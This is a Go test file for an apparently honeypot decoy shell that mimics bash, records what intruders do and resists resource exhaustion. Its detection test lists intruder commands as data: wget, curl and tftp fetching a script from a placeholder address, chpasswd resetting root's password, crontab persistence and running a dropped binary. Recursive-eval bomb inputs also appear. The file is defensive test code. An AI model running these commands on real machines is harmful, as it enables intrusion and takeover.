// Copyright 2026 The Deckyard Authors.
// SPDX-License-Identifier: Apache-2.0

package shell_test

import (
	"bytes"
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/deckyard/deckyard/internal/decoy/evidence"
	"github.com/deckyard/deckyard/internal/decoy/shell"
)

// notes collects the names of recorded events.
type notes struct{ events []string }

func (n *notes) Record(event string, _ ...evidence.Field) { n.events = append(n.events, event) }

func newSession(user string) (*shell.Session, *notes) {
	recorded := &notes{}
	machine := shell.NewMachine("srv-01", "10.1.2.3", []string{"admin"})
	return machine.NewSession(user, "10.9.9.9:4711", recorded), recorded
}

func run(t *testing.T, session *shell.Session, line string) string {
	t.Helper()
	var out bytes.Buffer
	session.Run(t.Context(), line, strings.NewReader(""), &out)
	return out.String()
}

func TestRunAnswersAsAShellDoes(t *testing.T) {
	t.Parallel()
	tests := map[string]struct {
		user, line, want string
	}{
		"identity of root":             {"root", "id", "uid=0(root) gid=0(root) groups=0(root)\n"},
		"identity of a user":           {"admin", "whoami; pwd", "admin\n/home/admin\n"},
		"kernel":                       {"root", "uname -snm", "Linux srv-01 x86_64\n"},
		"unknown command":              {"root", "frobnicate", "-bash: frobnicate: command not found\n"},
		"status of an unknown command": {"root", "frobnicate 2>/dev/null; echo $?", "127\n"},
		"and, or":                      {"root", "true && echo a || echo b; false && echo c || echo d", "a\nd\n"},
		"pipe":                         {"root", "cat /proc/cpuinfo | grep 'model name' | wc -l", "2\n"},
		"redirection and append":       {"root", "cd /tmp; echo a > f; echo b >> f; cat f", "a\nb\n"},
		"both streams to a file":       {"root", "ls /nope > /tmp/o 2>&1; cat /tmp/o", "ls: cannot access '/nope': No such file or directory\n"},
		"input from a file":            {"root", "wc -l < /etc/shells", "5\n"},
		"quotes":                       {"root", `echo 'a  b' "c  $USER" d\ e`, "a  b c  root d e\n"},
		"variables":                    {"root", `x=5; echo $x ${x}y "$HOME"`, "5 5y /root\n"},
		"command substitution":         {"root", "echo $(echo a; echo b) `whoami`", "a b root\n"},
		"echo with escapes":            {"root", `echo -e "\x41\tB\101"; echo -n x`, "A\tBA\nx"},
		"busybox probe":                {"root", "/bin/busybox ECCHI", "ECCHI: applet not found\n"},
		"files come and go":            {"root", "cd /tmp && mkdir d && touch d/f && ls d && rm -rf d && ls d", "f\nls: cannot access 'd': No such file or directory\n"},
		"copy, move":                   {"root", "cd /tmp; echo z > a; cp a b; mv b c; cat c; ls", "z\na\nc\n"},
		"links":                        {"root", "ls -d /bin/sh; readlink 2>/dev/null; cd /bin; pwd", "/bin/sh\n/usr/bin\n"},
		"a user may not read shadow":   {"admin", "cat /etc/shadow", "cat: /etc/shadow: Permission denied\n"},
		"a user may not write to etc":  {"admin", "echo x > /etc/x", "-bash: /etc/x: Permission denied\n"},
		"a user may not enter root's":  {"admin", "cd /root", "-bash: cd: /root: Permission denied\n"},
		"root reads shadow":            {"root", "head -n 1 /etc/shadow | cut -d: -f1", "root\n"},
		"passwd knows the users":       {"root", "grep -c admin /etc/passwd", "1\n"},
		"awk prints columns":           {"root", "free | grep Mem | awk '{print $1,$2}'", "Mem: 4018380\n"},
		"sed substitutes":              {"root", "echo abc | sed s/b/X/", "aXc\n"},
		"base64 both ways":             {"root", "echo hello | base64 | base64 -d", "hello\n"},
		"digest":                       {"root", "echo -n abc | sha256sum", "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad  -\n"},
		"test":                         {"root", "[ -d /etc ] && [ ! -f /nope ] && test 3 -gt 2 && echo yes", "yes\n"},
		"sh -c":                        {"root", "sh -c 'exit 3'; echo $?", "3\n"},
		"script from a pipe":           {"root", "echo 'echo inner' | sh", "inner\n"},
		"history":                      {"root", "history", "    1  history\n"},
		"address":                      {"root", "hostname -I", "10.1.2.3\n"},
		"glob":                         {"root", "cd /etc; echo host*", "hostname hosts\n"},
		"background":                   {"root", "sleep 0 & echo a", "a\n"},
		"open quote":                   {"root", "echo 'a", "-bash: unexpected EOF while looking for matching `''\n"},
		"operator without command":     {"root", "| x", "-bash: syntax error near unexpected token `|'\n"},
		"what is uploaded cannot run":  {"root", "cd /tmp; echo x > m; chmod +x m; ./m", "-bash: ./m: cannot execute binary file: Exec format error\n"},
		"a plain file cannot run":      {"root", "/etc/passwd", "-bash: /etc/passwd: Permission denied\n"},
		"an unknown user has a home":   {"oracle", "pwd; whoami", "/home/oracle\noracle\n"},
		"a comment":                    {"root", "echo a # b", "a\n"},
	}
	for name, test := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			session, _ := newSession(test.user)
			if diff := cmp.Diff(test.want, run(t, session, test.line)); diff != "" {
				t.Error(diff)
			}
		})
	}
}

func TestRunRecordsWhatAnIntruderIsAfter(t *testing.T) {
	t.Parallel()
	tests := map[string]struct{ line, event string }{
		"wget":                {"wget http://198.51.100.7/x.sh", "download"},
		"curl":                {"curl -sO 198.51.100.7/x.sh", "download"},
		"tftp":                {"tftp -g -r x 198.51.100.7", "download"},
		"another machine":     {"ssh root@10.0.0.1", "network"},
		"a program of theirs": {"cd /tmp; echo x>y; chmod 777 y; ./y", "execute"},
		"crontab":             {"echo '* * * * * x' | crontab -", "crontab"},
		"password":            {"echo root:new | chpasswd", "password"},
		"python":              {"python3 -c 'import os'", "script"},
	}
	for name, test := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			session, recorded := newSession("root")
			run(t, session, test.line)
			if len(recorded.events) != 1 || recorded.events[0] != test.event {
				t.Errorf("recorded %v, want %s", recorded.events, test.event)
			}
		})
	}
}

func TestRunStaysWithinBounds(t *testing.T) {
	t.Parallel()
	tests := map[string]struct{ lines []string }{
		"growing variables":   {repeated("x=$x$x$x$x$x$x$x$x", 50)},
		"growing files":       {repeated("cd /tmp; cat a a a a >> b; cat b b b b >> a; echo seed >> a", 100)},
		"many files":          {numbered("echo x > /tmp/f%d", 2000)},
		"nested substitution": {[]string{strings.Repeat("$(echo ", 200) + strings.Repeat(")", 200)}},
		"recursive scripts":   {[]string{"cd /tmp; echo 'sh s; sh s' > s; sh s"}},
		"recursive eval":      {[]string{"x='eval $x; eval $x'; eval $x"}},
		"many commands":       {[]string{strings.Repeat("true;", 800)}},
		"long output":         {repeated("find / ; seq 100000", 3)},
		"xargs to itself":     {[]string{"echo xargs | xargs xargs xargs xargs xargs xargs xargs xargs xargs"}},
	}
	for name, test := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			session, _ := newSession("root")
			for _, line := range test.lines {
				if out := run(t, session, line); len(out) > 256<<10 {
					t.Fatalf("%d bytes of output", len(out))
				}
			}
		})
	}
}

func repeated(line string, count int) []string {
	lines := make([]string, count)
	for i := range lines {
		lines[i] = line
	}
	return lines
}

func numbered(format string, count int) []string {
	lines := make([]string, count)
	for i := range lines {
		lines[i] = fmt.Sprintf(format, i)
	}
	return lines
}

func TestSessionsDoNotShareFiles(t *testing.T) {
	t.Parallel()
	machine := shell.NewMachine("srv-01", "10.1.2.3", nil)
	first := machine.NewSession("root", "a:1", &notes{})
	second := machine.NewSession("root", "b:1", &notes{})
	run(t, first, "rm /etc/hosts; echo x > /tmp/x")
	want := "/etc/hosts\nls: cannot access '/tmp/x': No such file or directory\n"
	if got := run(t, second, "ls -d /etc/hosts /tmp/x 2>/tmp/e; cat /tmp/e"); got != want {
		t.Errorf("got %q", got)
	}
}

func FuzzRunSurvivesAnyLine(f *testing.F) {
	for _, seed := range []string{
		"ls -la /; echo $(id) > /tmp/x && cat < /tmp/x | grep a || true", "echo \"${x}$(`'", "a=b c=d env", "cut -d , -f 2- /etc/passwd",
		"tr a-z A-Z", "chmod +x", "[ a = b ]", "find . -name", "2>&1 >x <", "awk -F: '{print $1}' /etc/passwd", "sed s/(/", "printf %s", "tail -n", "$", "\\",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, line string) {
		if strings.Contains(line, "sleep") {
			return
		}
		session, _ := newSession("admin")
		run(t, session, line)
	})
}
